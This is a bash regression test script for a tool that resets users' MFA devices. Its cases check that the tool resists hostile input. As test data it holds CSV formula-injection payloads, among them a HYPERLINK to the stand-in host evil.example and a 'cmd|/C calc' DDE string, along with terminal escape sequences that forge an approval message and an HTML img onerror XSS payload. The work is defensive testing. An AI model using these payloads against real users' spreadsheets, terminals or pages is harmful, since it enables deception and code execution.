#!/usr/bin/env bash
# Issue 30, through the binary: no input row, ledger or output path hides a user from a run
# or destroys the record; no ledger or plan text reaches the terminal raw.
# Usage: record_test.sh /path/to/devreset CASE
set -euo pipefail
source "$(dirname "$0")/lib.sh"

alpha=/realms/root/realms/alpha
devices_of() {  # user _id -> the devices the tenant still lists for them (every default type)
  local n=0 kind c
  for kind in 2fa/oath 2fa/push 2fa/webauthn 2fa/binding; do
    c=$(curl --silent --show-error --fail --cacert "$work/ca.pem" \
      -H "Authorization: Bearer sim-token" -H "Accept-API-Version: resource=1.0" \
      "$tenant/am/json$alpha/users/$1/devices/$kind?_queryFilter=true" |
      python3 -c 'import json,sys; print(len(json.load(sys.stdin)["result"]))')
    n=$((n + c))
  done
  echo "$n"
}

case "$case_name" in
a_colliding_name_hides_nobody)
  # 1. `zz6507werT8|achl` has user000042's unkeyed boost::hash (the key devreset used to tell
  # users apart): both rows are users of their own, and user000042 is reset.
  start_sim --users 50
  victim=$(sed -n 43p "$work/users.txt")
  [[ $(devices_of "$victim") -gt 0 ]] || fail "user000042 has no device to begin with"
  printf 'user_name\nzz6507werT8|achl\nuser000042\n' >"$work/names.csv"
  exit_code rc run --input "$work/names.csv" --ledger "$work/l.jsonl" --yes --not-found-ok >"$work/out" 2>"$work/err"
  [[ $rc -eq 0 ]] || fail "exit $rc: $(cat "$work/err")"
  grep -q "duplicate" "$work/out" && fail "a row was taken for a duplicate: $(cat "$work/out")"
  [[ $(devices_of "$victim") -eq 0 ]] || fail "user000042's devices are still there"
  python3 - "$work/l.jsonl" "$victim" <<'PY' || fail "the ledger: $(cat "$work/l.jsonl")"
import json, sys
recs = {r.get("user_name"): r for r in map(json.loads, open(sys.argv[1])) if r.get("record") == "user"}
assert recs["user000042"]["status"] == "ok" and recs["user000042"]["user_id"] == sys.argv[2], recs
assert recs["zz6507werT8|achl"]["status"] == "not_found", recs
PY
  "$devreset" report "$work/l.jsonl" --format json >"$work/report.json" || true
  [[ $(json_get "$(cat "$work/report.json")" '["users"]') -eq 2 ]] || fail "report: $(cat "$work/report.json")"
  # The same pair as _ids in one input: two users (neither is the tenant's), none a duplicate.
  printf 'zz6507werT8|achl\nuser000042\n' >"$work/ids.txt"
  exit_code rc run --input "$work/ids.txt" --ledger "$work/ids.jsonl" --yes --not-found-ok >"$work/out" 2>"$work/err"
  [[ $(count_records "$work/ids.jsonl" not_found) -eq 2 ]] || fail "ids: $(cat "$work/out" "$work/ids.jsonl")"
  ;;
report_never_merges_tenants)
  # 2. The same five users failed on one tenant and ok on another: 10 users, 5 failed, exit 1,
  # each tenant counted apart; --failed-out refuses to mix them.
  start_sim --users 20 --fail-rate 1
  start_other_sim --users 20
  head -5 "$work/users.txt" >"$work/five.txt"
  run --input "$work/five.txt" --ledger "$work/prod.jsonl" --yes --max-attempts 1 --types oath >/dev/null 2>&1 || true
  [[ $(count_records "$work/prod.jsonl" failed) -eq 5 ]] || fail "prod: $(cat "$work/prod.jsonl")"
  run_b --input "$work/five.txt" --ledger "$work/test.jsonl" --yes --types oath >/dev/null 2>&1 || fail "test tenant run"
  exit_code rc "$devreset" report "$work/prod.jsonl" "$work/test.jsonl" --format json >"$work/r.json"
  [[ $rc -eq 1 ]] || fail "exit $rc: $(cat "$work/r.json")"
  python3 - "$work/r.json" "$tenant" "$tenant_b" <<'PY' || fail "$(cat "$work/r.json")"
import json, sys
r = json.load(open(sys.argv[1]))
assert r["users"] == 10 and r["by_status"]["failed"] == 5 and r["by_status"]["ok"] == 5, r
t = {x["tenant"]: x["by_status"] for x in r["tenants"]}
assert t[sys.argv[2] + "/am"]["failed"] == 5 and t[sys.argv[3] + "/am"]["ok"] == 5, t
PY
  "$devreset" report "$work/prod.jsonl" "$work/test.jsonl" >"$work/r.txt" || true
  grep -q "^Tenants: 2" "$work/r.txt" || fail "no tenant lines: $(cat "$work/r.txt")"
  exit_code rc "$devreset" report "$work/prod.jsonl" "$work/test.jsonl" --failed-out "$work/retry.csv" >/dev/null 2>"$work/err"
  [[ $rc -eq 2 ]] || fail "--failed-out of two tenants: exit $rc"
  grep -q "hold runs on 2 tenants" "$work/err" || fail "$(cat "$work/err")"
  [[ ! -e "$work/retry.csv" ]] || fail "a list mixing tenants was written"
  ;;
outputs_never_replace_what_a_run_reads)
  # 3. --metrics-file and --summary-json are never the ledger, the input or the token; they
  # are written through a new file renamed into place, never through a link.
  start_sim --users 5
  run --input "$work/users.txt" --ledger "$work/l.jsonl" --yes --types oath >/dev/null 2>&1 || fail "first run"
  cp "$work/l.jsonl" "$work/l.before"; cp "$work/users.txt" "$work/users.before"
  refused() {  # words, then run's extra options
    local want=$1; shift
    exit_code rc run --input "$work/users.txt" --yes --types oath "$@" >/dev/null 2>"$work/err"
    [[ $rc -eq 2 ]] || fail "'$*': exit $rc: $(cat "$work/err")"
    grep -q -- "$want" "$work/err" || fail "'$*': $(cat "$work/err")"
  }
  refused "is the file of --ledger" --ledger "$work/l.jsonl" --resume --metrics-file "$work/l.jsonl"
  refused "is the file of --ledger" --ledger "$work/l.jsonl" --resume --summary-json "$work/l.jsonl"
  ln -s l.jsonl "$work/other-name.jsonl"
  refused "is the file of --ledger" --ledger "$work/l.jsonl" --resume --summary-json "$work/other-name.jsonl"
  refused "is the file of --input" --ledger "$work/new.jsonl" --metrics-file "$work/users.txt"
  refused "is the file of --token-file" --ledger "$work/new.jsonl" --summary-json "$work/token.txt"
  refused "is the file of --ledger" --ledger "$work/new.jsonl" --metrics-file "$work/./new.jsonl"
  refused "is the file of --summary-json" --ledger "$work/new.jsonl" --summary-json "$work/s.json" --metrics-file "$work/s.json"
  cmp -s "$work/l.jsonl" "$work/l.before" || fail "the ledger was changed"
  cmp -s "$work/users.txt" "$work/users.before" || fail "the input was changed"
  [[ ! -e "$work/new.jsonl" ]] || fail "a refused run made its ledger"
  # A link planted in a folder others can write: replaced, its target untouched.
  mkdir "$work/ww"; chmod 777 "$work/ww"
  echo precious >"$work/root-only"; chmod 600 "$work/root-only"
  echo precious >"$work/root-only-2"; chmod 600 "$work/root-only-2"
  ln -s "$work/root-only" "$work/ww/summary.json"
  ln -s "$work/root-only-2" "$work/ww/metrics.prom"
  run --input "$work/users.txt" --ledger "$work/l2.jsonl" --yes --types oath \
    --summary-json "$work/ww/summary.json" --metrics-file "$work/ww/metrics.prom" >/dev/null 2>"$work/err" || fail "$(cat "$work/err")"
  [[ $(cat "$work/root-only") == precious && $(cat "$work/root-only-2") == precious ]] || fail "a link's target was overwritten"
  [[ ! -L "$work/ww/summary.json" && ! -L "$work/ww/metrics.prom" ]] || fail "written through the link"
  json_get "$(cat "$work/ww/summary.json")" '["exit_code"]' | grep -qx 0 || fail "summary: $(cat "$work/ww/summary.json")"
  ;;
csv_cells_are_never_formulas)
  # 4. Identifiers that a spreadsheet would run as formulas are written as text in report
  # --csv and --failed-out, and --failed-out reads back to the very same identifiers.
  start_sim --users 5
  python3 - "$work/names.csv" <<'PY'
import csv, sys
names = ['=HYPERLINK("http://evil.example/?x","Click")', "@SUM(1+1)*cmd|' /C calc'!A0",
         "+1+1", "-2+3", "'=quoted", "''", "'plain", "@"]
with open(sys.argv[1], "w", newline="") as f:
    w = csv.writer(f)
    w.writerow(["user_name"])
    for n in names: w.writerow([n])
PY
  run --input "$work/names.csv" --ledger "$work/l.jsonl" --yes --types oath --not-found-ok >/dev/null 2>"$work/err" || fail "$(cat "$work/err")"
  # Recorded not_found; made failed here, as a tenant that failed every look-up would leave them.
  python3 - "$work/l.jsonl" <<'PY'
import json, sys
recs = [json.loads(l) for l in open(sys.argv[1])]
with open(sys.argv[1], "w") as f:
    for r in recs:
        if r.get("record") == "user":
            r["status"] = "failed"; r["types"] = "oath"
            r["results"] = [{"type": "oath", "status": "failed", "error": "503"}]
        f.write(json.dumps(r) + "\n")
PY
  "$devreset" report "$work/l.jsonl" --csv "$work/r.csv" --failed-out "$work/f.csv" >/dev/null || true
  python3 - "$work/r.csv" "$work/f.csv" <<'PY' || fail "a formula cell: $(cat "$work/r.csv" "$work/f.csv")"
import csv, sys
for path in sys.argv[1:]:
    rows = [r for r in csv.reader(l for l in open(path, newline="") if not l.startswith("#"))]
    assert len(rows) == 9, (path, rows)
    for row in rows:
        for cell in row:
            assert not cell or cell[0] not in "=+-@\t\r", (path, cell)
PY
  run --input "$work/f.csv" --ledger "$work/again.jsonl" --yes --not-found-ok >/dev/null 2>"$work/err" || fail "$(cat "$work/err")"
  python3 - "$work/l.jsonl" "$work/again.jsonl" <<'PY' || fail "not the same identifiers: $(cat "$work/again.jsonl")"
import json, sys
names = lambda p: sorted(r["user_name"] for r in map(json.loads, open(p)) if r.get("record") == "user")
assert names(sys.argv[1]) == names(sys.argv[2]), (names(sys.argv[1]), names(sys.argv[2]))
PY
  ;;
the_plan_applied_is_the_plan_reviewed)
  # 5. The plan's SHA-256 (as sha256sum says) in report's view of the plan, in the run's
  # confirmation, in its run record and in report's view of the run; a plan others could
  # replace (its folder writable by all) is refused.
  start_sim --users 10
  "$devreset" plan --tenant "$tenant" --realm alpha --ca-file "$work/ca.pem" --token-file "$work/token.txt" \
    --progress none --input "$work/users.txt" --ledger "$work/plan.jsonl" 2>"$work/err" || fail "plan: $(cat "$work/err")"
  sha=$(sha256sum "$work/plan.jsonl" | cut -d' ' -f1)
  "$devreset" report "$work/plan.jsonl" | grep -q "SHA-256 $sha" || fail "report of the plan: $("$devreset" report "$work/plan.jsonl")"
  "$devreset" run --tenant "$tenant" --ca-file "$work/ca.pem" --token-file "$work/token.txt" --progress none \
    --plan "$work/plan.jsonl" --ledger "$work/run.jsonl" --yes 2>"$work/err" || fail "run --plan: $(cat "$work/err")"
  grep -q "SHA-256 $sha" "$work/err" || fail "the confirmation: $(cat "$work/err")"
  grep '"record":"run"' "$work/run.jsonl" | grep -q "\"sha256\":\"$sha\"" || fail "run record: $(head -1 "$work/run.jsonl")"
  "$devreset" report "$work/run.jsonl" | grep -q "applied plan .* (SHA-256 $sha)" || fail "report of the run"
  mkdir "$work/ww"; chmod 777 "$work/ww"; cp "$work/plan.jsonl" "$work/ww/plan.jsonl"
  exit_code rc "$devreset" run --tenant "$tenant" --ca-file "$work/ca.pem" --token-file "$work/token.txt" --progress none \
    --plan "$work/ww/plan.jsonl" --ledger "$work/run2.jsonl" --yes 2>"$work/err"
  [[ $rc -eq 2 ]] || fail "a plan in a folder all can write: exit $rc: $(cat "$work/err")"
  grep -q "in the folder $work/ww, which is others can change it (mode 777): others could replace it" "$work/err" || fail "$(cat "$work/err")"
  ;;
ledger_and_plan_text_never_reach_the_terminal_raw)
  # 6. A plan's run id or realm with terminal escapes is refused (escaped in the message); a
  # ledger's input name with an OSC sequence is escaped in report.
  start_sim --users 10
  "$devreset" plan --tenant "$tenant" --realm alpha --ca-file "$work/ca.pem" --token-file "$work/token.txt" \
    --progress none --input "$work/users.txt" --ledger "$work/plan.jsonl" 2>"$work/err" || fail "plan: $(cat "$work/err")"
  edit() {  # plan field value -> out: every record's field set to the value
    python3 - "$work/plan.jsonl" "$1" "$2" "$3" <<'PY'
import json, sys
src, field, value, out = sys.argv[1:]
with open(out, "w") as f:
    for l in open(src):
        r = json.loads(l)
        if field in r and (field == "run_id" or r.get("record") == "run"): r[field] = value.encode().decode("unicode_escape")
        f.write(json.dumps(r) + "\n")
PY
    chmod 600 "$3"
  }
  edit run_id '\x1b[2K\r\x1b[31mAPPROVED by security\x1b[0m' "$work/p1.jsonl"
  edit realm '/realms/root/realms/alpha\x1b]0;x\x07' "$work/p2.jsonl"
  for p in p1 p2; do
    exit_code rc "$devreset" run --tenant "$tenant" --ca-file "$work/ca.pem" --token-file "$work/token.txt" \
      --progress none --plan "$work/$p.jsonl" --ledger "$work/$p-run.jsonl" --yes 2>"$work/err"
    [[ $rc -eq 2 ]] || fail "$p: exit $rc"
    grep -q "is none devreset writes\|is not a realm path" "$work/err" || fail "$p: $(cat "$work/err")"
    grep -q $'\x1b' "$work/err" && fail "$p: a raw escape on stderr"
    "$devreset" report "$work/$p.jsonl" >"$work/report" 2>&1 || true
    grep -q $'\x1b' "$work/report" && fail "$p: a raw escape in report"
  done
  # An interrupted run whose input is named with an OSC sequence: report names it escaped.
  run --input "$work/users.txt" --ledger "$work/l.jsonl" --yes --types oath >/dev/null 2>&1 || fail "run"
  python3 - "$work/l.jsonl" <<'PY'
import json, sys
recs = [json.loads(l) for l in open(sys.argv[1])]
with open(sys.argv[1], "w") as f:
    for r in recs:
        if r.get("record") == "summary": continue  # as a crash leaves it
        if r.get("record") == "user" and r.get("user_id") != recs[1].get("user_id"): continue
        if r.get("record") == "run": r["input"] = "\x1b]0;owned\x07users.txt"
        f.write(json.dumps(r) + "\n")
PY
  for format in text json; do
    "$devreset" report "$work/l.jsonl" --format $format >"$work/report" 2>&1 || true
    grep -q "not_reached\|not reached" "$work/report" || fail "$format: $(cat "$work/report")"
    grep -q $'\x1b' "$work/report" && fail "$format: a raw escape in report: $(cat -v "$work/report")"
  done
  true
  ;;
a_mistyped_proxy_option_hides_its_password)
  # 7. "--prox" is ambiguous (--proxy, --proxy-ca-file): the error never shows the password.
  start_sim --users 3
  exit_code rc run --input "$work/users.txt" --ledger "$work/l.jsonl" --yes \
    '--prox=http://alice:s3cr3t@127.0.0.1:9' >/dev/null 2>"$work/err"
  [[ $rc -eq 2 ]] || fail "exit $rc: $(cat "$work/err")"
  grep -q "ambiguous" "$work/err" || fail "$(cat "$work/err")"
  grep -q "s3cr3t\|alice:" "$work/err" && fail "the password was printed: $(cat "$work/err")"
  DEVRESET_PROXY='http://bob:hunter2@127.0.0.1:9/' exit_code rc run --input "$work/users.txt" --ledger "$work/l.jsonl" \
    --yes --proxy-ca-file /nonexistent >/dev/null 2>"$work/err"
  grep -q "hunter2" "$work/err" && fail "the password was printed: $(cat "$work/err")"
  true
  ;;
a_malformed_no_proxy_is_refused)
  # 9. "10.0.0.0/" read as /0 took every IPv4 address out of the proxy: refused, exit 2.
  start_sim --users 3
  for bad in '10.0.0.0/' '10.0.0.0/x' '127.0.0.0/33'; do
    NO_PROXY="localhost,$bad" exit_code rc run --input "$work/users.txt" --ledger "$work/l.jsonl" --yes \
      --proxy http://127.0.0.1:9 >/dev/null 2>"$work/err"
    [[ $rc -eq 2 ]] || fail "NO_PROXY=$bad: exit $rc: $(cat "$work/err")"
    grep -q "NO_PROXY: '$bad' is no address range" "$work/err" || fail "$(cat "$work/err")"
  done
  [[ $(json_get "$(stats)" '["requests"]') -eq 0 ]] || fail "requests were sent"
  ;;
report_pages_escape_user_names)
  # A user name made of markup, shown as an example user under the page's top reasons: escaped
  # text on the page, never an element (issue 32's mutant: the examples left unescaped).
  start_sim --users 5
  printf 'user_name\n"<img src=x onerror=alert(1)>&amp;"\n' >"$work/names.csv"
  run --input "$work/names.csv" --ledger "$work/l.jsonl" --yes --not-found-ok >/dev/null 2>"$work/err" || fail "$(cat "$work/err")"
  [[ $(count_records "$work/l.jsonl" not_found) -eq 1 ]] || fail "$(cat "$work/l.jsonl")"
  "$devreset" report "$work/l.jsonl" --html "$work/r.html" >/dev/null || true
  grep -q "<img" "$work/r.html" && fail "the user name is markup on the page"
  grep -q "&lt;img src=x onerror=alert(1)&gt;&amp;amp;" "$work/r.html" || fail "the example user is not on the page, escaped"
  true
  ;;
*)
  fail "no case $case_name"
  ;;
esac
echo "PASS ($case_name)"
